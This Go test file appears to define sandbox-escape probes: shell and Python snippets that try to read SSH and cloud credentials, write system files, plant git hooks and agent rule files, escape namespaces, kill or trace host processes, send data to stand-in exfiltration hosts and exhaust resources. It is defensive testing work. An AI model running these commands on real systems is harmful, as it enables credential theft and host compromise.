package sandboxtest

// attempt is one way to try to get out. WS, FAKE_HOME, OTHER, VICTIM, PORT, UPORT and
// ABSTRACT are in its environment.
type attempt struct {
	name    string
	py      bool   // Python, else shell
	code    string //
	control bool   // harmless enough to be run unsandboxed, where it must work
	changes bool   // the control shows by a change outside rather than by PWNED
	want    string // must be in the output: the command came to its end
}

// prelude begins every attempt in Python.
const prelude = `import os, sys, socket, ctypes, subprocess, time, signal, struct, errno, platform
E = os.environ
WS, HOME, OTHER, VICTIM, PORT, UPORT = E['WS'], E['FAKE_HOME'], E['OTHER'], int(E['VICTIM']), int(E['PORT']), int(E['UPORT'])
L = ctypes.CDLL(None, use_errno=True)
AMD = platform.machine() == 'x86_64'
def nr(amd, arm): return amd if AMD else arm
def pwned(*a): print('PWNED', *a)
def quietly(f, *a):
  try: return f(*a)
  except OSError: return None
`

var attempts = []attempt{
	// files outside
	{name: "write to the home folder", code: `echo x > "$FAKE_HOME/planted"`, control: true, changes: true},
	{name: "write through ..", code: `echo x > "$WS/../planted"`, control: true, changes: true},
	{name: "write through a link that was there", code: `echo x > "$WS/link-home/planted"`, control: true, changes: true},
	{name: "write through a link made now", code: `ln -s "$FAKE_HOME" l; echo x > l/planted`, control: true, changes: true},
	{name: "hard link of a file outside", py: true, code: `os.link(OTHER+'/secret.txt', WS+'/hl'); open(WS+'/hl','a').write('x'); pwned()`, control: true},
	{name: "climb by descriptors", py: true, code: `
d = os.open(WS, os.O_RDONLY)
for _ in range(16): d = os.open('..', os.O_RDONLY, dir_fd=d)
f = os.open(OTHER.lstrip('/') + '/planted', os.O_CREAT | os.O_WRONLY, dir_fd=d); os.write(f, b'x')`, control: true, changes: true},
	{name: "other processes' roots", py: true, code: `
for p in os.listdir('/proc'):
  if p.isdigit():
    for n in ('cwd/../planted', 'root' + OTHER + '/planted'):
      try: open(f'/proc/{p}/{n}', 'w').write('x')
      except OSError: pass`},
	{name: "write to the system", code: `for f in /etc/hosts /usr/bin/planted /opt/planted /etc/ld.so.preload /usr/local/bin/planted; do (echo x >> $f) 2>/dev/null && echo PWNED $f; done; true`},
	{name: "write to the root", code: `for d in / /dev /run /run/worksite /proc /etc /var; do (: > $d/planted) 2>/dev/null && echo PWNED $d; done; true`},
	{name: "read keys", code: `cat "$FAKE_HOME/.ssh/id_ed25519" "$FAKE_HOME/.aws/credentials" "$FAKE_HOME/.netrc" "$FAKE_HOME/.config/gh/hosts.yml" 2>/dev/null | grep -q CANARY && echo PWNED`, control: true},
	{name: "read another workspace", code: `cat "$OTHER/secret.txt" 2>/dev/null | grep -q CANARY && echo PWNED`, control: true},
	{name: "search everything for secrets", code: `grep -rlsI CANARY_ / --include=id_ed25519 --include=credentials --include=secret.txt --include=.netrc --exclude-dir=proc --exclude-dir=usr 2>/dev/null | head -1 | grep -q . && echo PWNED`},
	{name: "read secrets of the system", code: `[ -s /etc/shadow ] && grep -q root /etc/shadow 2>/dev/null && echo PWNED; cat /etc/ssh/ssh_host_*_key 2>/dev/null | grep -q PRIVATE && echo PWNED; ls /etc/ssl/private/* 2>/dev/null | grep -q . && echo PWNED; true`},
	{name: "read environments and command lines", py: true, code: `
for p in os.listdir('/proc'):
  if p.isdigit():
    for n in ('environ', 'cmdline'):
      b = quietly(lambda: open(f'/proc/{p}/{n}','rb').read()) or b''
      if b'CAN' + b'ARY_' in b: pwned(p, n)`},
	{name: "helper's descriptors and memory", py: true, code: `
for n in range(64):
  try: pwned(os.readlink(f'/proc/1/fd/{n}'))
  except OSError: pass
for n in ('environ', 'maps', 'auxv', 'stack'):
  try: open('/proc/1/' + n, 'rb').read(1) and pwned(n)
  except OSError: pass
for m in ('r+b', 'rb'):
  try: open('/proc/1/mem', m).seek(4096); pwned('mem', m)
  except OSError: pass`},
	{name: "forge the helper's report", py: true, code: `
for fd in range(3, 64):
  try: os.write(fd, b'{"ended":true,"code":0}\n'); pwned('inherited', fd)
  except OSError: pass
for p in (1, os.getppid()):
  for fd in range(3, 16):
    try: open(f'/proc/{p}/fd/{fd}', 'w').write('{"ended":true,"code":0}\n'); pwned(p, fd)
    except OSError: pass`},

	// Git and rule files
	{name: "git configuration", code: `git config core.fsmonitor 'touch /tmp/x' 2>/dev/null && echo PWNED; (printf '[core]\n\thooksPath=/tmp\n' >> .git/config) 2>/dev/null && echo PWNED; true`, control: true},
	{name: "git configuration by rename", code: `printf '[core]\n\tfsmonitor=id\n' > .git/n && mv -f .git/n .git/config && echo PWNED`, control: true},
	{name: "git configuration by removal", code: `rm -f .git/config && echo PWNED`, control: true},
	{name: "git hooks", code: `echo 'id' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && echo PWNED`, control: true},
	{name: "git hooks by link", code: `rm -rf .git/hooks 2>/dev/null; mv .git/hooks .git/h2 2>/dev/null; ln -s /tmp .git/hooks 2>/dev/null && [ -L .git/hooks ] && echo PWNED`, control: true},
	{name: "git folder exchanged", code: `mv .git .g && cp -r .g .git && echo PWNED`, control: true},
	{name: "workspace exchanged", code: `cd "$WS/.." && mv ws ws2 && mkdir ws && echo PWNED`, control: true},
	{name: "git common folder", code: `mkdir -p evil/objects evil/refs; printf '[core]\n\tfsmonitor=id\n' > evil/config; echo ../evil > .git/commondir; true`, control: true, changes: true},
	{name: "git worktrees", code: `mkdir -p .git/worktrees/w && echo x > .git/worktrees/w/commondir; true`},
	{name: "rule files", code: `(echo x >> AGENTS.md) 2>/dev/null && echo PWNED; (echo '{}' > .mcp.json) 2>/dev/null && echo PWNED; mkdir -p .vscode 2>/dev/null; (echo '{}' > .vscode/tasks.json) 2>/dev/null && echo PWNED; (echo x > .envrc) 2>/dev/null && echo PWNED; (mkdir -p .worksite && echo x > .worksite/settings.json) 2>/dev/null && echo PWNED; true`, control: true},
	{name: "rule files by rename", code: `echo x > r; for f in AGENTS.md .envrc .mcp.json; do mv -f r $f 2>/dev/null && echo PWNED $f; ln -f r $f 2>/dev/null && echo PWNED $f; done; rm -rf .vscode .idea 2>/dev/null; mkdir d; mv -T d .vscode 2>/dev/null && echo PWNED; true`, control: true},

	// more rights
	{name: "set-id by chmod", code: `cp /bin/sh s; chmod u+s s 2>/dev/null; install -m 4755 /bin/sh s2 2>/dev/null; cp /bin/sh s3; chmod 2755 s3 2>/dev/null; find . -maxdepth 1 -perm /6000 | grep -q . && echo PWNED`, control: true},
	{name: "set-id at creation", py: true, code: `
os.umask(0)
for n, f in (('a', lambda: os.open(WS+'/a', os.O_CREAT|os.O_WRONLY, 0o4755)), ('b', lambda: os.mknod(WS+'/b', 0o104755)), ('c', lambda: os.close(os.open(WS+'/c', os.O_CREAT|os.O_WRONLY, 0o755)) or os.chmod(WS+'/c', 0o4755))):
  quietly(f)
  if os.path.exists(WS+'/'+n) and os.stat(WS+'/'+n).st_mode & 0o6000: pwned(n)`, control: true},
	{name: "capabilities", code: `grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | grep -v 0000000000000000 | grep -q . && echo PWNED; grep -q '^NoNewPrivs:.1' /proc/self/status || echo PWNED; grep -q '^Seccomp:.2' /proc/self/status || echo PWNED; true`},
	{name: "become another user", code: `sudo -n id 2>/dev/null | grep -q uid=0 && echo PWNED; python3 -c 'import os; os.setgroups([0])' 2>/dev/null && echo PWNED; python3 -c 'import os; os.setuid(12345); print("PWNED")' 2>/dev/null; true`},
	{name: "mounts", code: `mkdir -p m; mount --bind "$FAKE_HOME" m 2>/dev/null && echo PWNED; unshare -rm true 2>/dev/null && echo PWNED; mount -o remount,rw / 2>/dev/null && echo PWNED; umount -l "$FAKE_HOME" 2>/dev/null && echo PWNED; true`},
	{name: "new namespaces", py: true, code: `
r = L.syscall(nr(56, 220), 0x10000000 | 17, 0, 0, 0, 0)
if r == 0: os._exit(0)
if r > 0: pwned('clone')
a = struct.pack('<11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
r = L.syscall(435, ctypes.create_string_buffer(a), 88)
if r == 0: os._exit(0)
if r > 0: pwned('clone3')
for f in (0x10000000, 0x20000, 0x40000000, 0x80):
  if L.unshare(f) == 0: pwned('unshare', hex(f))`, control: true},
	{name: "namespaces of others", py: true, code: `
for p in (1, VICTIM):
  r = L.syscall(434, p, 0)
  if r >= 0 and p == VICTIM and os.path.exists(f'/proc/{VICTIM}/exe'): pwned('pidfd of a host process')
  if r >= 0 and L.setns(r, 0x20000000) == 0: pwned('setns by pidfd')
for n in ('mnt', 'user', 'net', 'pid', 'uts', 'ipc'):
  f = quietly(os.open, f'/proc/1/ns/{n}', os.O_RDONLY)
  if f is not None and L.setns(f, 0) == 0: pwned('setns', n)`},
	{name: "new mount interface", py: true, code: `
if L.syscall(428, -100, b'/', 1) >= 0: pwned('open_tree')
if L.syscall(430, b'tmpfs', 0) >= 0: pwned('fsopen')
if L.syscall(442, -100, b'/', 0, ctypes.create_string_buffer(32), 32) >= 0: pwned('mount_setattr')
quietly(os.mkdir, '/tmp/c')
try: os.chroot('/tmp/c'); pwned('chroot')
except OSError: pass`},
	{name: "parts of the kernel", py: true, code: `
b = ctypes.create_string_buffer(128)
if L.syscall(425, 4, b) >= 0: pwned('io_uring')
if L.syscall(nr(321, 280), 0, ctypes.create_string_buffer(struct.pack('<IIII',1,4,4,1)+b'\0'*112), 72) >= 0: pwned('bpf')
if L.syscall(nr(323, 282), 0x80001) >= 0: pwned('userfaultfd')
if L.syscall(nr(298, 241), ctypes.create_string_buffer(struct.pack('<IIQ',1,112,0)+b'\0'*112), 0, -1, -1, 0) >= 0: pwned('perf')
if L.syscall(nr(250, 219), 0, -3, 1) >= 0: pwned('keyctl')
if L.syscall(nr(304, 265), 0, b, 0) >= 0: pwned('open_by_handle_at')
if L.syscall(nr(175, 105), b'', 0, b'') == 0: pwned('init_module')
if L.syscall(nr(168, 225), b'/dev/null') == 0: pwned('swapoff')
if L.syscall(nr(103, 116), 3, b, 100) > 0: pwned('syslog')
if L.personality(0x0400000) >= 0: pwned('personality')`},
	{name: "foreign system calls", py: true, code: `
if AMD and os.fork() == 0:
  if L.syscall(0x40000000 | 39) > 0: pwned('x32')
  os._exit(0)
if AMD: os.wait()`},
	{name: "memory and disks", code: `for f in /dev/mem /dev/kmem /dev/sda /dev/vda /dev/nvme0n1 /proc/kcore; do dd if=$f of=/dev/null bs=64 count=1 2>/dev/null && echo PWNED $f; done; mknod blk b 254 0 2>/dev/null && dd if=blk of=/dev/null bs=512 count=1 2>/dev/null && echo PWNED; dmesg 2>/dev/null | grep -q . && echo PWNED; true`},
	{name: "kernel settings", code: `ls /sys/kernel 2>/dev/null | grep -q . && echo PWNED; for f in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sys/kernel/hostname /proc/sysrq-trigger /proc/self/oom_score_adj /proc/irq/default_smp_affinity; do (: >> $f) 2>/dev/null && echo PWNED $f; done; true`},
	{name: "terminal", py: true, code: `
import fcntl, termios
for fd in (0, 1, 2):
  try: fcntl.ioctl(fd, termios.TIOCSTI, b'x'); pwned('tty', fd)
  except OSError: pass
m, s = os.openpty()
try: fcntl.ioctl(s, termios.TIOCSTI, b'x'); pwned('own pty')
except OSError: pass
if L.ioctl(s, ctypes.c_ulong(0x100005412), b'x') == 0: pwned('upper half')
t = quietly(os.open, '/dev/tty', os.O_RDWR)
if t is not None: pwned('controlling terminal')`},
	{name: "a sandbox inside", code: `bwrap --ro-bind / / true 2>/dev/null && echo PWNED`},

	// other processes
	{name: "see processes of the host", py: true, code: `
n = len([p for p in os.listdir('/proc') if p.isdigit()])
if n > 6: pwned(n)
if b'worksite-victim' in (quietly(lambda: open(f'/proc/{VICTIM}/cmdline','rb').read()) or b''): pwned()`, control: true},
	{name: "signal everything", py: true, code: `
for s in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
  quietly(os.kill, VICTIM, s)
quietly(os.kill, -1, signal.SIGTERM)`},
	{name: "signal process 1", py: true, code: `
for s in list(range(1, 32)) + [34, 40, 64]:
  quietly(os.kill, 1, s)
print('still here')`, want: "still here"},
	{name: "trace", py: true, code: `
if L.ptrace(16, VICTIM, 0, 0) == 0: pwned('victim')
if L.ptrace(16, 1, 0, 0) == 0: pwned('process 1')
p = os.fork()
if p == 0: time.sleep(2); os._exit(0)
if L.ptrace(16, p, 0, 0) == 0: pwned('child')
os.kill(p, 9)`},
	{name: "daemon survives", code: `(setsid sh -c 'exec sleep 7331' >/dev/null 2>&1 </dev/null &); (setsid sh -c 'trap "" TERM HUP; exec sleep 7331' & ) >/dev/null 2>&1; sleep 7331 & kill -STOP $!; echo done`, want: "done"},

	// network and sockets
	{name: "loopback of the host", py: true, code: `
for h in ('127.0.0.1', 'localhost', '0.0.0.0', '::1'):
  try: socket.create_connection((h, PORT), 1); pwned(h)
  except OSError: pass`, control: true},
	{name: "other addresses", py: true, code: `
for h in ('169.254.169.254', '100.100.100.200', '10.0.2.2', '192.0.2.1'):
  try: socket.create_connection((h, 80), 1); pwned(h)
  except OSError as e:
    if e.errno not in (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.EADDRNOTAVAIL): pwned('something answered for', h, e)`},
	{name: "datagrams and names", py: true, code: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for t in (('127.0.0.1', UPORT), ('127.0.0.53', 53), ('192.0.2.1', 53)):
  try: s.sendto(b'secret', t)
  except OSError: pass
try: socket.getaddrinfo('secret.exfil.test', 80); pwned()
except OSError: pass`, control: true, changes: true},
	{name: "abstract socket", py: true, code: `
s = socket.socket(socket.AF_UNIX); s.connect('\0' + E['ABSTRACT']); pwned()`, control: true},
	{name: "sockets of the system", py: true, code: `
for p in ('/run/docker.sock', '/var/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock', f'/run/user/{os.getuid()}/bus', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', '/tmp/.X11-unix/X99', HOME + '/.gnupg/S.gpg-agent', HOME + '/agent.sock'):
  try: socket.socket(socket.AF_UNIX).connect(p); pwned(p)
  except OSError: pass`, control: true},
	{name: "socket in the workspace", py: true, code: `
socket.socket(socket.AF_UNIX).connect(WS + '/service.sock'); pwned()`, control: true},
	{name: "families of sockets", py: true, code: `
for n, f, t, p in (('VSOCK',40,1,0),('ALG',38,5,0),('PACKET',17,3,0x300),('NETFILTER',16,3,12),('UEVENT',16,3,15),('BT',31,3,0),('XDP',44,3,0),('RDS',21,5,0),('TIPC',30,1,0),('RAW',2,3,1),('RAW6',10,3,58)):
  try: socket.socket(f, t, p); pwned(n)
  except OSError: pass`},

	// using up
	{name: "fill the temporary folders", code: `for d in /tmp /dev/shm /var/tmp "$FAKE_HOME" / /dev /run; do dd if=/dev/zero of=$d/fill bs=1M count=80 2>/dev/null; s=$(stat -c %s $d/fill 2>/dev/null || echo 0); [ $s -ge 83886080 ] && echo PWNED $d; rm -f $d/fill; done; true`},
	{name: "raise the limits", py: true, code: `
import resource as r
for n in ('FSIZE', 'DATA', 'CPU', 'NOFILE', 'NPROC', 'CORE', 'MEMLOCK'):
  k = getattr(r, 'RLIMIT_' + n)
  if r.getrlimit(k)[1] == r.RLIM_INFINITY: pwned('unlimited', n)
  try: r.setrlimit(k, (r.RLIM_INFINITY,) * 2); pwned(n)
  except (OSError, ValueError): pass`},
	{name: "use up memory", py: true, code: `
b = []
try:
  for i in range(20): b.append(bytearray(64 << 20))
  pwned('1.25 GiB')
except MemoryError: print('bounded')`, want: "bounded"},
	{name: "sparse file", py: true, code: `
f = open(WS + '/sparse', 'wb')
try: f.truncate(1 << 40); pwned()
except OSError: pass`, control: true},
}
